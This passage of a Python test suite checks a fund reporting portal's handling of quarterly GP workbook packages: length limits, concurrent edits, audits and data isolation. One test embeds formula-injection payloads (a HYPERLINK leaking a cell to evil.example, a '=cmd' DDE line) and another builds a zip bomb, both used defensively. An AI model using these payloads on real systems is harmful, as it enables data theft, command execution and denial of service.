    assert again["holdings"][0]["name"] == "甬" * 200 and again["notices"][0]["ref"] == "N" * 64


def test_every_text_of_a_package_too_long_for_its_place_is_refused_at_its_cell_not_cut(book):
    """The credit code, sector, region, method, a projection's quarter and the narrative had been
    cut to 40 / 40 / 12 / 40 / 10 / 20,000 characters without a word; the GP then saw, and the
    tie-out judged, a value they had not typed."""
    from portfolio.errors import FieldErrors
    from portfolio.gp.template import read_form

    content = clean_content()
    holding = content["holdings"][1]
    holding.update(credit_code="9" * 41, sector="行" * 41, region_code="3" * 13, method="m" * 41)
    content["projection"][0]["quarter"] = "2026Q1-2026Q2"
    content["narrative"] = "说" * 20001
    with pytest.raises(FieldErrors) as refused:
        read_workbook(workbook(content, investment_id="QY-SF1", quarter_end=Q4))
    assert [str(m) for _f, m in refused.value.errors] == [
        "基本信息 第 4 行 情况说明：不能超过 20000 个字符",
        "投资明细 第 3 行 统一社会信用代码：不能超过 40 个字符", "投资明细 第 3 行 所属行业：不能超过 40 个字符",
        "投资明细 第 3 行 注册地行政区划代码：不能超过 12 个字符", "投资明细 第 3 行 估值方法：不能超过 40 个字符",
        "未来预测 第 2 行 季度：季度格式应为 2025Q4：2026Q1-202…"]
    with pytest.raises(FieldErrors) as typed:
        read_form({"narrative": "说" * 20001, "h-0-name": "甬材", "h-0-credit_code": "9" * 41,
                   "h-0-cost": "1", "h-0-fair_value": "1", "p-0-quarter": "2026Q1-2026Q2"}, unit="yuan")
    shown = [m.shown("en") for _f, m in typed.value.errors]
    assert shown[0].endswith("Narrative: at most 20000 characters")
    assert any("Unified social credit code: at most 40 characters" in s for s in shown)
    assert any("Quarter: a quarter is written like 2025Q4: 2026Q1-202…" in s for s in shown), shown
    assert len(shown) == 3


@pytest.mark.parametrize(("typed", "kept"), [("2026Q1", "2026Q1"), ("2026q2", "2026Q2"), ("２０２６Ｑ３", "2026Q3"),
                                             ("2026Q9", None), ("abc", None), ("2026-03-31", None)])
def test_a_projections_quarter_is_a_quarter_or_refused_at_its_cell(book, typed, kept):
    """Any text had been kept as a projection's quarter ('abc', '2026Q9'), and no check judged it."""
    from portfolio.errors import FieldErrors

    content = clean_content()
    content["projection"][0]["quarter"] = typed
    data = workbook(content, investment_id="QY-SF1", quarter_end=Q4)
    if kept is None:
        with pytest.raises(FieldErrors) as refused:
            read_workbook(data)
        assert [str(m) for _f, m in refused.value.errors] == [f"未来预测 第 2 行 季度：季度格式应为 2025Q4：{typed}"]
    else:
        assert read_workbook(data)[0]["projection"][0]["quarter"] == kept


def test_a_return_while_the_package_is_being_accepted_never_undoes_the_acceptance(app, db, book, monkeypatch):
    """One manager accepts while another returns the same package. The acceptance books the
    valuation and holdings; a return landing after it had set the package back to 'returned'
    with the book already written, so the GP could change and submit it again. Now the second
    waits for the first and is refused."""
    package = _submitted(db)
    packages.review(db.session, package.id, username="manager1")
    package_id = package.id
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "_book_package", started)
    accepted, returned = race(app, db, lambda s: packages.accept(s, package_id, username="manager2"),
                               lambda s: packages.return_package(s, package_id, "请补充说明", username="manager1"),
                               started)
    assert not isinstance(accepted, FieldErrors)
    assert isinstance(returned, FieldErrors) and returned.errors[0][1].key == "gp_only_submitted_return"
    assert db.session.get(GpPackage, package_id).status == "accepted"
    events = db.session.execute(select(GpPackageEvent.action).where(GpPackageEvent.package_id == package_id)
                                .order_by(GpPackageEvent.id)).scalars().all()
    assert events[-1] == "accept" and "return" not in events


def test_a_save_and_a_submit_at_once_submit_what_was_tied_out(app, db, book, monkeypatch):
    """Two people of one GP: one saves a changed package while the other submits it. The save
    had checked 'still a draft' before the submit landed and then wrote its content into the
    submitted package, which was never tied out as submitted. Now the submit waits for the
    save and submits the saved content, tied out again."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    package_id = package.id
    changed = clean_content()
    changed["narrative"] = "改过的说明"
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "run_tieout", started)
    saved, submitted = race(app, db, lambda s: packages.save_package(s, "QY-SF1", Q4, changed, username="gp1",
                                                                 allowed=["SF1"]),
                             lambda s: packages.submit(s, package_id, username="gp1", allowed=["SF1"]), started)
    assert not isinstance(saved, FieldErrors) and not isinstance(submitted, FieldErrors)
    package = db.session.get(GpPackage, package_id)
    assert package.status == "submitted" and package.content["narrative"] == "改过的说明"
    events = db.session.execute(select(GpPackageEvent.action).where(GpPackageEvent.package_id == package_id)
                                .order_by(GpPackageEvent.id)).scalars().all()
    assert events == ["save", "save", "submit"]


def test_a_packages_workbook_holds_text_never_a_formula(book):
    """A GP's company name, notice number or narrative beginning with '=' is a string cell in
    the workbook a fund manager downloads (it had been a live formula: a link that sends the
    sheet's contents away, or a command), and reads back as typed."""
    from openpyxl import load_workbook

    content = clean_content()
    content["holdings"][0]["name"] = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    content["notices"][0]["ref"] = "=cmd|' /C calc'!A0"
    content["narrative"] = "=1+1"
    data = workbook(content, investment_id="QY-SF1", quarter_end=Q4)
    cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    again, _investment, _quarter_end = read_workbook(data)
    assert again["holdings"][0]["name"] == content["holdings"][0]["name"]
    assert again["notices"][0]["ref"] == "=cmd|' /C calc'!A0" and again["narrative"] == "=1+1"


def test_a_package_that_expands_to_a_bomb_is_refused_before_it_is_read(book, inflated):
    """A filled template whose shared strings expand to 68 MB (4 million of them; 170 KB on the
    wire) is refused from the zip's directory at once: openpyxl read the whole table before a
    row was counted (35 s and 110 MB a request, found by a probe)."""
    import zipfile

    from portfolio.errors import FieldErrors

    data = workbook(clean_content(), investment_id="QY-SF1", quarter_end=Q4)
    strings = b"<si><t>x</t></si>" * 4_000_000
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in z.infolist():
            bomb.writestr(item, z.read(item))
        bomb.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                                              b'main">' + strings + b"</sst>")
    assert len(out.getvalue()) < 8 * 1024 * 1024  # within the upload's size limit
    inflated.clear()
    with pytest.raises(FieldErrors) as refused:
        read_workbook(out.getvalue())
    assert inflated.get("xl/sharedStrings.xml", 0) == 0  # 68 MB inside, not a byte of it expanded
    assert [(field, m.key) for field, m in refused.value.errors] == [("file", "book_too_large")]


def test_a_gp_learns_nothing_of_companies_other_sub_funds_hold(db, book):
    """C1 (甬智机器人, 913302067JH4BXKF5Y) is the fund's direct deal, never in SF1's reports.
    SF1's GP typing C1's credit code under another name, or C1's name under another code, had
    been told the book's name, or the book's code, in the checks. Now the package is weighed
    only against the companies SF1 has reported; its own company renamed is still caught."""
    content = clean_content()
    content["holdings"][2].update(name="Probe Co", credit_code="913302067JH4BXKF5Y")
    package = packages.save_package(db.session, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"])
    shown = json.dumps(package.checks, ensure_ascii=False)
    assert "甬智机器人" not in shown
    content = clean_content()
    content["holdings"][2]["name"] = "甬智机器人科技有限公司"  # C1's name, NEW_COMPANY's code
    package = packages.save_package(db.session, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"])
    assert "913302067JH4BXKF5Y" not in json.dumps(package.checks, ensure_ascii=False)
    content = clean_content()
    content["holdings"][0]["name"] = "甬材新材料股份有限公司"  # SF1's own C3, renamed: still a warning
    package = packages.save_package(db.session, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"])
    renamed = [c for c in package.checks if c["key"] == "company_name"]
    assert renamed[0]["status"] == "warning" and "甬材新材料有限公司" in json.dumps(renamed, ensure_ascii=False)


@pytest.mark.parametrize("opening_millions, status", [(410, "passed"), (310, "blocking")])
def test_the_opening_nav_is_the_books_nav_at_the_previous_quarter_end(db, book, opening_millions, status):
    """QY-SF1 is valued 310 million at 2025-09-30 and called 100 million on 2025-11-15: the book's
    NAV at 2025-12-31 (metrics.md's roll-forward, the report's figure) is 410 million. A 2026Q1
    package opens there; one opening at the lagging valuation's 310 million is off by the call."""
    from portfolio.figures.tieout import BLOCKING, PASSED

    m = 100_000_000
    report = cache.fund_report(db.session, "QY", Q4)
    assert next(i for i in report["investments"] if i["id"] == "QY-SF1")["nav"] == 410 * m // 100
    content = clean_content()
    opening = opening_millions * m
    content["account"].update(opening_nav=opening, contributions=0, distributions=0, management_fees=0,
                              other_income_expenses=0, realised_gain=0, unrealised_gain=0, closing_nav=opening,
                              opening_unfunded=100 * m, closing_unfunded=100 * m)
    content["notices"] = []
    content["holdings"][0]["fair_value"] += opening * 4 - sum(h["fair_value"] for h in content["holdings"])
    package = packages.save_package(db.session, "QY-SF1", dt.date(2026, 3, 31), content, username="gp1",
                                    allowed=["SF1"])
    check = next(c for c in package.checks if c["key"] == "opening_nav")
    assert check["status"] == {"passed": PASSED, "blocking": BLOCKING}[status]
    assert check.get("expected", 410 * m) == 410 * m


def test_the_manager_who_accepts_sees_what_a_holding_already_in_the_book_becomes(db, client, book):
    """SF1's GP reports 'Probe Co' (digital) under the credit code of C1, the fund's own direct
    deal 甬智机器人 (robotics). A credit code names one company, so acceptance books the holding
    as C1; the package page shows the manager that (names and sectors differ, first reported by
    SF1) before the acceptance, and shows the GP nothing of C1."""
    content = clean_content()
    content["holdings"][2].update(name="Probe Co", credit_code="913302067JH4BXKF5Y", sector="digital")
    package = packages.save_package(db.session, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"])
    match, = packages.book_matches(db.session, package)
    assert (match.book_code, match.renamed, match.resectored, match.first_report) == ("C1", True, True, True)
    login(client, "manager1")
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    section = page[page.index('id="book-matches"'):page.index('id="capital-account"')]
    assert "甬智机器人" in section and "Probe Co" in section and "名称不一致" in section and "行业不一致" in section
    login(client, "gp1")
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    assert 'id="book-matches"' not in page and "甬智机器人" not in page
    # SF1's own companies, reported again as the book has them, are no news to the manager
    plain = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    assert [m.book_code for m in packages.book_matches(db.session, plain)] == []


def test_the_package_forms_words_follow_the_reader_whoever_read_it_first(client, book):
    """The notice type's options are written {{ 'contribution'|label('type') }}: Jinja had worked
    the literal out when it compiled the template, in Chinese, so English readers read 出资/分配."""
    login(client, "gp1")
    client.get("/lang/zh")
    assert ">出资</option>" in client.get("/gp/packages/new").get_data(as_text=True)
    client.get("/lang/en")
    page = client.get("/gp/packages/new").get_data(as_text=True)
    assert ">Contribution</option>" in page and ">Distribution</option>" in page
    assert "出资" not in page and "分配" not in page


def _accepted(db, investment_id: str, quarter_end: dt.date, content: dict) -> GpPackage:
    package = packages.save_package(db.session, investment_id, quarter_end, content, username="gp1", allowed=["SF1"])
    packages.submit(db.session, package.id, username="gp1", allowed=["SF1"])
    packages.review(db.session, package.id, username="manager1")
    return packages.accept(db.session, package.id, username="manager2")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_tie_outs_items_read_in_the_readers_language_in_yuan_and_counts_are_not_amounts(db, client, book, lang):
    """A notice the ledger lacks had been listed as '+ contribution 2025-12-01 300000001 CALL-X1'
    (a code, and fen on a page in 元), and the number of items stood under 报告数（元）."""
    import re

    from tests.visible_text import problems, visible_text

    content = clean_content()
    content["notices"].append({"date": "2025-12-01", "type": "contribution", "amount": 300_000_001, "ref": "CALL-X1"})
    package = packages.save_package(db.session, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"])
    login(client, "manager1")
    client.get(f"/lang/{lang}")
    page = client.get(f"/gp/packages/{package.id}").get_data(as_text=True)
    section = page[page.index('<section class="card" id="tieout"'):]
    section = section[:section.index("</section>")]
    row = re.search(r'<tr data-check="notices_matched".*?</tr>', section, re.S).group(0)
    shown = visible_text(row)
    assert 'data-unit="count"' in row and "300000001" not in shown and "contribution" not in shown
    assert ("台账中没有：出资 2025-12-01 3,000,000.01 元，编号 CALL-X1" if lang == "zh" else
            "Not in the ledger: Contribution 2025-12-01 CNY 3,000,000.01, ref. CALL-X1") in shown
    assert ("项" if lang == "zh" else "items") in shown
    total = visible_text(re.search(r'<tr data-check="notices_vs_account".*?</tr>', section, re.S).group(0))
    assert ("出资通知书合计 103,000,000.01 元，资本账户为 100,000,000.00 元" if lang == "zh" else
            "Contribution notices total CNY 103,000,000.01, the capital account CNY 100,000,000.00") in total
    assert "（元）" not in visible_text(section) and "(yuan)" not in visible_text(section)
    assert problems(visible_text(section), lang, allowed=("Chinese",)) == []


def _q1_content() -> dict:
    """2026Q1 of QY-SF1, no flows: it opens at the book's NAV at 2025-12-31 (410 million) and closes there."""
    m = 100_000_000
    content = clean_content()
    content["account"].update(opening_nav=410 * m, contributions=0, distributions=0, management_fees=0,
                              other_income_expenses=0, realised_gain=0, unrealised_gain=0, closing_nav=410 * m,
                              opening_unfunded=100 * m, closing_unfunded=100 * m)
    content["notices"] = []
    content["holdings"][0]["fair_value"] += 410 * m * 4 - sum(h["fair_value"] for h in content["holdings"])
    return content


def test_a_quarter_before_one_already_accepted_cannot_be_accepted(db, book):
    """2025Q4 is waiting for acceptance when 2026Q1 (which opened at the book's NAV without it) is
    accepted: accepting 2025Q4 afterwards had put a closing NAV in the book that the accepted next
    quarter never opened from. Now it is refused, and its tie-out says why."""
    q4 = _submitted(db)
    packages.review(db.session, q4.id, username="manager1")
    q4_id = q4.id
    assert _accepted(db, "QY-SF1", dt.date(2026, 3, 31), _q1_content()).status == "accepted"
    with pytest.raises(FieldErrors) as refused:
        packages.accept(db.session, q4_id, username="manager2")
    (_field, message), = refused.value.errors
    assert message.key == "gp_later_accepted"
    assert message.shown("en") == ("The report for 2026Q1 of this investment is already accepted: one for an earlier "
                                   "quarter (2025Q4) can no longer be accepted")
    db.session.rollback()
    assert db.session.get(GpPackage, q4_id).status == "reviewed"
    assert db.session.execute(select(Valuation).where(Valuation.investment_id == "QY-SF1", Valuation.as_of == Q4,
                                                      Valuation.method == "gp_nav")).first() is None
    checks = {c.key: c for c in packages.run_tieout(db.session, db.session.get(GpPackage, q4_id))}
    assert checks["quarter_order"].status == "blocking" and "2026Q1" in checks["quarter_order"].items[0].shown("zh")
    db.session.rollback()


def test_a_second_interest_in_the_sub_fund_reports_the_schedule_already_accepted_and_leaves_it(db, book):
    """QY-SF1 and QY-SF1B both invest in SF1. SF1's schedule at a quarter end is one: accepting the
    second interest's package had deleted the first's schedule and booked its own, so the first
    interest's accepted NAV no longer matched the book's holdings × its share. Now a package that
    differs from the accepted schedule is blocking, naming the company; one that is the same is
    accepted and the schedule is left as it was."""
    from models import Investment

    db.session.add(Investment(id="QY-SF1B", fund_code="QY", mode="sub_fund", sub_fund_code="SF1",
                              date=dt.date(2025, 6, 30), commitment_cny=Decimal(100_000_000), ownership_pct=Decimal(10)))
    db.session.commit()
    _accepted(db, "QY-SF1", Q4, clean_content())
    before = _schedule(db)
    assert len(before) == 3
    m = 100_000_000
    second = {"account": {"opening_nav": 0, "contributions": 0, "distributions": 0, "management_fees": 0,
                          "other_income_expenses": 0, "realised_gain": 0, "unrealised_gain": 168 * m,
                          "closing_nav": 168 * m, "commitment": 100 * m, "opening_unfunded": 100 * m,
                          "recallable_distributions": 0, "closing_unfunded": 100 * m},
              "holdings": copy.deepcopy(clean_content()["holdings"]), "notices": []}
    second["holdings"][1]["fair_value"] += 1 * m
    package = packages.save_package(db.session, "QY-SF1B", Q4, second, username="gp1", allowed=["SF1"])
    check = next(c for c in package.checks if c["key"] == "holdings_vs_schedule")
    assert check["status"] == "blocking" and check["difference"] == 1 * m
    assert [i["args"]["credit_code"] for i in check["items"]] == ["91440305HFCLU47L0Y"]
    second["holdings"][1]["fair_value"] -= 1 * m
    accepted = _accepted(db, "QY-SF1B", Q4, second)
    assert accepted.status == "accepted" and accepted.blocking == 0
    assert _schedule(db) == before
    assert db.session.execute(select(AuditEntry).where(AuditEntry.batch == f"gp-package-{accepted.id}",
                                                       AuditEntry.entity == "sub_fund_holdings")).first() is None


def test_a_schedule_an_import_booked_is_a_finding_before_acceptance_and_replaced_with_its_audit(db, imported):
    """SF1's schedule at 2025-12-31 came in by an import (no package had booked it): accepting
    QY-SF1's package had deleted it and booked the package's without a word on the package's
    page. Now the tie-out weighs the package against it, each difference a warning the manager
    sees before accepting; acceptance replaces it, each row it changes audited before and after
    (the unchanged row left as it was, the row the package lacks removed, the new one added)."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    check = next(c for c in package.checks if c["key"] == "holdings_vs_schedule")
    assert check["status"] == "warning" and package.blocking == 0, package.checks
    m = 1_000_000  # yuan
    assert check["difference"] == (900 + 500 + 280 - 900 - 450 - 10) * m * 100
    assert sorted((i["key"], i["args"]["credit_code"]) for i in check["items"]) == sorted([
        ("gp_item_booked_differs", "91440305HFCLU47L0Y"), ("gp_item_booked_extra", NEW_COMPANY),
        ("gp_item_booked_missing", "913302067JH4BXKF5Y")])
    accepted = _accepted(db, "QY-SF1", Q4, clean_content())
    assert accepted.status == "accepted"
    after = _schedule(db)
    new_code = next(code for code in after if code not in ("C3", "C4"))
    assert after == {"C3": (Decimal(300 * m), Decimal(900 * m)), "C4": (Decimal(200 * m), Decimal(500 * m)),
                     new_code: (Decimal(250 * m), Decimal(280 * m))}
    entries = {(e.action, e.entity_key): e for e in db.session.execute(select(AuditEntry).where(
        AuditEntry.batch == f"gp-package-{accepted.id}", AuditEntry.entity == "sub_fund_holdings")).scalars()}
    assert set(entries) == {("update", "SF1:2025-12-31:C4"), ("void", "SF1:2025-12-31:C1"),
                            ("create", f"SF1:2025-12-31:{new_code}")}
    changed = entries[("update", "SF1:2025-12-31:C4")]
    assert (changed.before["fair_value_cny"], changed.after["fair_value_cny"]) == ("450000000.00", "500000000.00")
    assert changed.before["cost_cny"] == changed.after["cost_cny"] == "200000000.00"
    removed = entries[("void", "SF1:2025-12-31:C1")]
    assert removed.before["fair_value_cny"] == "10000000.00" and removed.after is None
    assert changed.reason_said["key"] == removed.reason_said["key"] == "why_replaced_by_gp_package"


# -- two saves of one package: never a crash, never a save lost unseen --------------------------------

def _drawn_form(client, url: str) -> dict[str, str]:
    """What a browser would send back from the package form at `url`, as drawn."""
    import re

    page = client.get(url).get_data(as_text=True)
    fields = {}
    for attrs in re.findall(r"<input([^>]*)>", page):
        name, value = re.search(r'name="([^"]+)"', attrs), re.search(r'value="([^"]*)"', attrs)
        if name:
            fields[name.group(1)] = value.group(1) if value else ""
    for name, body in re.findall(r'<select[^>]*name="([^"]+)"[^>]*>(.*?)</select>', page, re.S):
        chosen = re.search(r'value="([^"]*)"[^>]*selected', body) or re.search(r'value="([^"]*)"', body)
        fields[name] = chosen.group(1) if chosen else ""
    for name, body in re.findall(r'<textarea[^>]*name="([^"]+)"[^>]*>(.*?)</textarea>', page, re.S):
        fields[name] = body.strip()
    return fields


def _new_form(client, closing_nav: str, narrative: str) -> dict[str, str]:
    form = _drawn_form(client, "/gp/packages/new?investment=QY-SF1&quarter_end=2025-12-31")
    return {**form, "investment_id": "QY-SF1", "quarter_end": "2025-12-31", "unit": "yuan",
            "acc-closing_nav": closing_nav, "narrative": narrative}


def _one_package(db) -> GpPackage:
    db.session.expire_all()
    return db.session.execute(select(GpPackage).where(GpPackage.investment_id == "QY-SF1",
                                                      GpPackage.quarter_end == Q4)).scalar_one()


def test_two_first_saves_of_a_quarter_at_once_are_one_package_and_a_refusal(app, db, book, monkeypatch):
    """Two people of one GP each open "new package" for QY-SF1's 2025Q4 and save at once. The
    tie-out's queries flushed the new row before the save's guarded flush: the second insert of
    (investment, quarter) answered 500 (IntegrityError), or the second save found the first's
    row and replaced it, both told "saved". Now saves of one quarter wait for each other: the
    first is saved, the second refused beside its form, pointing to the package, nothing lost."""
    first, second = app.test_client(), app.test_client()
    login(first, "gp1")
    login(second, "gp1")
    forms = [_new_form(first, "100", "第一份"), _new_form(second, "200", "第二份")]
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "run_tieout", started)
    answers = race(app, db, lambda _s: first.post("/gp/packages/new", data=forms[0]),
                   lambda _s: second.post("/gp/packages/new", data=forms[1]), started)
    assert [a.status_code for a in answers] == [302, 200]
    package = _one_package(db)
    assert answers[0].headers["Location"].endswith(f"/gp/packages/{package.id}")
    assert package.content["narrative"] == "第一份" and package.content["account"]["closing_nav"] == 100 * 100
    refused = answers[1].get_data(as_text=True)
    assert f"季度报告已存在（#{package.id}）" in refused and f'href="/gp/packages/{package.id}"' in refused
    assert 'value="200"' in refused and "第二份" in refused  # what was typed, kept
    saves = db.session.execute(select(AuditEntry).where(AuditEntry.entity == "gp_packages")).scalars().all()
    assert [(e.action, e.entity_key) for e in saves] == [("save", str(package.id))]


def test_two_first_saves_at_once_by_the_use_case_are_one_package_and_a_refusal(app, db, book, monkeypatch):
    """The same race under the web: the second waits for the first's lock on the interest's quarter
    and then finds the package (never a unique-key crash, never a replacement)."""
    one, two = clean_content(), clean_content()
    two["narrative"] = "另一份"
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "run_tieout", started)
    saved, refused = race(
        app, db, lambda s: packages.save_package(s, "QY-SF1", Q4, one, username="gp1", allowed=["SF1"], new=True).id,
        lambda s: packages.save_package(s, "QY-SF1", Q4, two, username="gp1", allowed=["SF1"], new=True).id, started)
    assert isinstance(saved, int)
    assert isinstance(refused, packages.PackageExists) and refused.errors[0][1].key == "gp_package_exists"
    assert refused.package_id == saved and _one_package(db).content["narrative"] == one["narrative"]


def test_a_stale_edit_form_is_refused_and_overwrites_nothing(db, client, book):
    """Two tabs open a package's edit form; the first saves closing NAV 12,345, then the second
    (drawn before) saves a typo fix: it had written NAV 100 back over 12,345 without a word. Now
    the form carries the version it showed and the stale save is refused beside the form, what
    was typed shown back, the package as the first saved it."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    package_id = package.id
    login(client, "gp1")
    tab1 = _drawn_form(client, f"/gp/packages/{package_id}/edit")
    tab2 = _drawn_form(client, f"/gp/packages/{package_id}/edit")
    saved = client.post(f"/gp/packages/{package_id}/edit", data={**tab1, "acc-closing_nav": "12345"})
    assert saved.status_code == 302
    assert _one_package(db).content["account"]["closing_nav"] == 12345 * 100
    stale = client.post(f"/gp/packages/{package_id}/edit", data={**tab2, "narrative": "tab 2: typo fixed"})
    assert stale.status_code == 200
    page = stale.get_data(as_text=True)
    assert "该记录在您打开表单之后已由 gp1 于" in page and "tab 2: typo fixed" in page
    kept = _one_package(db)
    assert kept.content["account"]["closing_nav"] == 12345 * 100 and kept.content["narrative"] != "tab 2: typo fixed"
    assert tab1["version"] == tab2["version"] != _drawn_form(client, f"/gp/packages/{package_id}/edit")["version"]
    # drawn again, the form carries the new version and saves
    again = _drawn_form(client, f"/gp/packages/{package_id}/edit")
    assert client.post(f"/gp/packages/{package_id}/edit", data={**again, "narrative": "tab 2: typo fixed"}
                       ).status_code == 302
    kept = _one_package(db)
    assert kept.content["account"]["closing_nav"] == 12345 * 100 and kept.content["narrative"] == "tab 2: typo fixed"
    # an edit form without its version, or moved to another quarter, writes nothing either
    with pytest.raises(FieldErrors) as refused:
        packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"],
                              package_id=package_id)
    assert refused.value.errors[0][1].key == "stale_form"
    db.session.rollback()
    with pytest.raises(FieldErrors) as refused:
        packages.save_package(db.session, "QY-SF1", dt.date(2025, 9, 30), clean_content(), username="gp1",
                              allowed=["SF1"], package_id=package_id, version=packages.package_version(kept))
    assert refused.value.errors[0][1].key == "gp_package_fixed"
    db.session.rollback()
    assert db.session.execute(select(GpPackage)).scalars().all() == [kept]


def test_an_edit_form_sent_twice_is_saved_once_and_not_refused_as_stale(db, client, book):
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    login(client, "gp1")
    form = {**_drawn_form(client, f"/gp/packages/{package.id}/edit"), "acc-closing_nav": "777"}
    assert client.post(f"/gp/packages/{package.id}/edit", data=form).status_code == 302
    again = client.post(f"/gp/packages/{package.id}/edit", data=form, follow_redirects=True).get_data(as_text=True)
    assert "此表单已经提交过" in again and "该记录在您打开表单之后" not in again
    saves = db.session.execute(select(AuditEntry.action).where(AuditEntry.entity == "gp_packages")).scalars().all()
    assert saves == ["save", "save"]


def test_two_stale_edits_at_once_save_one_and_refuse_the_other(app, db, book, monkeypatch):
    """Two edit forms drawn at the same version, saved at once: the second waits for the first's
    row and finds the package no longer as its form showed it."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    package_id, version = package.id, packages.package_version(package)
    one, two = clean_content(), clean_content()
    one["narrative"], two["narrative"] = "第一个标签页", "第二个标签页"
    db.session.remove()
    started = threading.Event()
    slowed(monkeypatch, packages, "run_tieout", started)

    def edit(content):
        return lambda s: packages.save_package(s, "QY-SF1", Q4, content, username="gp1", allowed=["SF1"],
                                               package_id=package_id, version=version).id
    saved, refused = race(app, db, edit(one), edit(two), started)
    assert saved == package_id
    assert isinstance(refused, FieldErrors) and refused.errors[0][1].key == "stale_form"
    assert _one_package(db).content["narrative"] == "第一个标签页"


def test_new_package_for_a_quarter_that_has_one_is_refused_and_points_to_it(db, client, book):
    """ "New package" for QY-SF1's 2025Q4 when a draft exists had replaced the draft without a word."""
    package = packages.save_package(db.session, "QY-SF1", Q4, clean_content(), username="gp1", allowed=["SF1"])
    login(client, "gp1")
    page = client.post("/gp/packages/new", data=_new_form(client, "100", "重来")).get_data(as_text=True)
    assert f"季度报告已存在（#{package.id}）" in page and f'href="/gp/packages/{package.id}"' in page
    assert _one_package(db).content == clean_content()
    client.get("/lang/en")
    page = client.post("/gp/packages/new", data=_new_form(client, "100", "again")).get_data(as_text=True)
    assert f"already exists (#{package.id})" in page and f"Open the existing report #{package.id}" in page


def test_every_save_is_audited_with_the_package_before_and_after(db, client, book):
    """The audit of a save had kept its status and counts only: figures written over (a package a
    manager returned for correction, say) could not be found again. Now each save keeps the
    package before and after."""
    first = clean_content()
    package = packages.save_package(db.session, "QY-SF1", Q4, first, username="gp1", allowed=["SF1"])
    packages.submit(db.session, package.id, username="gp1", allowed=["SF1"])
    packages.return_package(db.session, package.id, "收盘净值有误", username="manager1")
    login(client, "gp1")
    form = _drawn_form(client, f"/gp/packages/{package.id}/edit")
    assert client.post(f"/gp/packages/{package.id}/edit", data={**form, "acc-closing_nav": "1"}).status_code == 302
    saves = db.session.execute(select(AuditEntry).where(AuditEntry.entity == "gp_packages",
                                                        AuditEntry.action == "save")
                               .order_by(AuditEntry.id)).scalars().all()
    assert len(saves) == 2 and saves[0].before is None and saves[0].after["content"] == first
    assert saves[1].before["status"] == "returned" and saves[1].before["content"] == first
    assert saves[1].after["content"]["account"]["closing_nav"] == 100 and saves[1].after["status"] == "returned"
    login(client, "manager1")
    page = client.get(f"/history/gp_packages/{package.id}").get_data(as_text=True)
    # shown as people read it: the capital account's lines by label in 万元, the sheets' rows counted,
    # the checks counted by outcome; never the stored dict (fen, codes, None)
    assert "{'account'" not in page and "'status'" not in page and "None" not in page, page
    assert "资本账户：期初净资产 31,000.00 万元" in page and "期末净资产 42,000.00 万元" in page
    assert "投资明细 3 行" in page and "校验结果：通过" in page
    client.get("/lang/en")
    page = client.get(f"/history/gp_packages/{package.id}").get_data(as_text=True)
    assert "Capital account: Opening NAV 31,000.00 (CNY 10k)" in page and "Holdings rows: 3" in page
    assert "{'account'" not in page and "Checks: passed" in page.replace("Passed", "passed")


# -- an upload replaces a draft only as its page showed it ------------------------------------------

def test_an_upload_from_a_stale_page_is_refused_beside_the_file_and_overwrites_nothing(db, client, book):
    """Two tabs of the portal; the first uploads the quarter's workbook (a first upload: no
    version needed), then the second, drawn before, uploads another: it had replaced the first's
    draft without a word (only the edit form carried a version). Now the upload carries the
    versions of the drafts its page showed: the stale one is refused beside the file, naming the
    package and who saved it, nothing overwritten; drawn again, the page's upload replaces it,
    audited with the draft before and after."""
    login(client, "gp1")
    tab1, tab2 = _portal_upload_form(client), _portal_upload_form(client)
    assert tab1.get("versions", "") == ""  # no package yet
    first = clean_content()
    first["narrative"] = "第一次上传"
    assert _upload(client, first, tab1).status_code == 302
    package = _one_package(db)
    second = clean_content()
    second["account"]["closing_nav"] += 100  # one yuan more: another workbook
    second["narrative"] = "第二次上传"
    stale = _upload(client, second, tab2)
    page = stale.get_data(as_text=True)
    assert stale.status_code == 200
    said = re.search(r'<span class="error" data-field="file">([^<]*)</span>', page)
    assert said, "refused beside the file"
    assert f"未上传：投资 QY-SF1 2025Q4 的季度报告（#{package.id}）在您打开本页之后已由 gp1 于" in html.unescape(said.group(1))
    kept = _one_package(db)
    assert kept.content == first and kept.id == package.id  # nothing overwritten
    actions = lambda: db.session.execute(select(AuditEntry.action).where(  # noqa: E731
        AuditEntry.entity == "gp_packages").order_by(AuditEntry.id)).scalars().all()
    assert actions() == ["upload"]
    # the refused page still carries what it was drawn with: sent again, refused again
    assert _upload(client, second, _portal_upload_form_of(page)).status_code == 200
    assert _one_package(db).content == first
    # a page drawn now carries the draft's version: its upload replaces the draft, audited before and after
    fresh = _portal_upload_form(client)
    assert fresh["versions"] == f"{package.id}:{packages.package_version(kept)}"
    assert _upload(client, second, fresh).status_code == 302
    assert _one_package(db).content == second and actions() == ["upload", "upload"]
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.entity == "gp_packages")
